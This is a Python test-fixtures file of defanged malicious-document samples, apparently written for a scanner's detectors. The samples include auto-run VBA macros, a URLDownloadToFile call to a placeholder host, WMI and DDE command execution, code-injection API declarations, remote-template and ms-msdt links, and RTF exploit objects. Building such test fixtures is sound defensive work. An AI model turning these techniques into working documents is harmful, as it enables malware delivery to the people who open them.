"""Text fixtures: macro source and document parts."""

from __future__ import annotations

from tests.base.inert import inert

FIXTURES: dict[str, bytes] = {
    "macro_auto_runs_program": inert(
        r"""Attr·ibute VB_Na·me = "M"
Sub Auto·Open()
    Sh·ell "ca·lc.exe", 0
End Sub
"""
    ),
    "macro_auto_downloads": inert(
        r"""Dec·lare Func·tion URLDownl·oadToFile Lib "url·mon" Al·ias "URLDownlo·adToFileA" (By·Val a As Lo·ng)·
 As Lo·ng
Sub Docu·ment_Op·en()
    URLDownl·oadToFile 0, "ht·tp://exa·mple.inv·alid/a", "b", 0, 0
End Sub
"""
    ),
    "macro_auto_starts_wmi": inert(
        r"""Sub Work·book_Op·en()
    GetO·bject("winm·gmts:ro·ot\ci·mv2:Wi·n32_Pro·cess").Cre·ate "ca·lc.exe"
End Sub
"""
    ),
    "macro_injects_code": inert(
        r"""Pri·vate Dec·lare Ptr·Safe Func·tion Virtua·lAlloc Lib "kern·el32" (By·Val a As Lo·ng) As Lon·gPtr
Pri·vate Dec·lare Ptr·Safe Sub RtlMov·eMemory Lib "kern·el32" (By·Val a As Lon·gPtr)
Pri·vate Dec·lare Ptr·Safe Func·tion Create·Thread Lib "kern·el32" (By·Val a As Lo·ng) As Lon·gPtr
"""
    ),
    "macro_spelled_strings": inert(
        r"""Sub Auto·Open()
    s = Chr(104) & Chr(97) & Chr(114) & Chr(109) & Chr(108) & Chr(101) & Chr(115) & Chr(115) & Chr(33)
    Set o = Create·Object(s)
End Sub
"""
    ),
    "macro_drops_program": inert(
        r"""Sub Auto·Open()
    f = Env·iron("TE·MP") & "\a.exe"
    Op·en f For Bin·ary As #1
End Sub
"""
    ),
    "xlm_sheet_runs_program": inert(
        r"""<xm:macro·sheet xm·lns:xm="ht·tp://sch·emas.micr·osoft.com/off·ice/ex·cel/20·06/ma·in"><shee·tData><·
row><c><f>EX·EC("ca·lc.exe")</f></c></row></shee·tData></xm:macro·sheet>
"""
    ),
    "office_remote_template": inert(
        r"""<Relati·onship Id="rI·d1" Ty·pe="ht·tp://sch·emas.openxml·formats.org/officeD·ocument/20·06/relati·o·
nships/attached·Template" Tar·get="ht·tp://exa·mple.inv·alid/t.do·tm" Targe·tMode="Exte·rnal"/>
"""
    ),
    "office_moniker_link": inert(
        r"""<Relati·onship Id="rI·d1" Ty·pe="ht·tp://sch·emas.openxml·formats.org/officeD·ocument/20·06/relati·o·
nships/oleO·bject" Tar·get="mh·tml:ht·tp://exa·mple.inv·alid/a.ht·ml!x-usc:ht·tp://exa·mple.inv·alid·
/a.ht·ml" Targe·tMode="Exte·rnal"/>
"""
    ),
    "office_msdt_link": inert(
        r"""<scr·ipt>loca·tion.hr·ef = "ms-ms·dt:/id PCWDia·gnostic /sk·ip fo·rce /pa·ram \"IT_Browse·ForFile=no·
t·hing\"";</scr·ipt>
"""
    ),
    "office_dde_command": inert(
        r"""<w:inst·rText>DDE·AUTO "C:\\Win·dows\\Syst·em32\\cmd.exe" "/k ec·ho harm·less"</w:inst·rText>
"""
    ),
    "spreadsheet_dde_cell": inert(
        r"""na·me,num·ber
=cmd|'/c power·shell -w 1 ec·ho harm·less'!A1,2
"""
    ),
    "rtf_equation_exploit": inert(
        r"""{\rt·f1{\obj·ect\obj·emb\obju·pdate{\*\objc·lass Equa·tion.3}{\*\obj·data 01050000·02000000}}}
"""
    ),
    "rtf_embedded_program": inert(
        r"""{\rt·f1{\obj·ect\obj·emb{\*\obj·data 0105000002000000080000005061·636b616765000000612e65786500}}}
"""
    ),
}
